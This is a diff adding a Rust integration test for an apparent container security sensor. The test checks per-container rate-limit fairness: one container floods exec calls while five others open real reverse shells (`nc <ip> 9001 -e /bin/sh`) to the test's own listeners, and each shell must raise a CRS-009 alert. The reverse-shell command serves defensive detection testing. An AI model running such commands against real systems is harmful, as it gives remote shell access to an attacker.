@@ -214,3 +214,61 @@ fn health_reports_hooks_and_no_drops() {
         assert_eq!(hook["errors"], Value::Null, "hook errors: {hook}");
     }
 }
+
+/// Per-container fairness on the process ring: one container runs an exec loop far over a low
+/// per-cgroup record rate while five others run real reverse shells (`nc -e /bin/sh` to
+/// listeners of the test's own). Every shell alerts with its own container id, and the records
+/// the kernel refused are counted against the flooding container in `health`.
+#[test]
+fn an_exec_flood_in_one_container_costs_no_other_its_reverse_shell_alerts() {
+    let sensor = Sensor::start_with("proc_flood", &["--proc-rate", "200", "--proc-burst", "200"]);
+    let flood = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "sh",
+        "-c",
+        "end=$(( $(date +%s) + 20 )); while [ $(date +%s) -lt $end ]; do /bin/true; done",
+    ]);
+    let _cleanup = sensor_tests::Containers(vec![flood.clone()]);
+    let listeners: Vec<_> = (0..5)
+        .map(|_| sensor.listener(&["sh", "-c", "(echo 'id'; sleep 3) | nc -l -p 9001"]))
+        .collect();
+    let shells: Vec<String> = std::thread::scope(|s| {
+        let runs: Vec<_> = listeners
+            .iter()
+            .map(|l| {
+                let ip = l.ip.clone();
+                s.spawn(move || docker_run_rm(&[&image(), "nc", &ip, "9001", "-e", "/bin/sh"]))
+            })
+            .collect();
+        runs.into_iter().map(|r| r.join().unwrap()).collect()
+    });
+    for cid in &shells {
+        let alert = sensor.expect_alert("CRS-009", cid);
+        sensor_tests::assert_alert_fields(&alert, "CRS-009", cid);
+    }
+    // The flood still runs (it stops by itself after 20 s, or at cleanup).
+    let health = sensor
+        .wait_for(Duration::from_secs(10), |e| {
+            ev::kind(e) == "health"
+                && e["health"]["cgroup_drops"]
+                    .as_array()
+                    .is_some_and(|d| d.iter().any(|d| d["container_id"] == flood.as_str()))
+        })
+        .expect("drops attributed to the flooding container in health");
+    let drops = health["health"]["cgroup_drops"].as_array().unwrap();
+    let flooded = drops
+        .iter()
+        .find(|d| d["container_id"] == flood.as_str())
+        .unwrap();
+    assert_eq!(flooded["ring"], "process", "{flooded}");
+    assert_eq!(flooded["reason"], "rate_limited", "{flooded}");
+    assert!(ev::u64_of(&flooded["dropped"]) > 0, "{flooded}");
+    for cid in &shells {
+        assert!(
+            !drops.iter().any(|d| d["container_id"] == cid.as_str()),
+            "the shell container {cid} lost records: {drops:?}"
+        );
+    }
+}
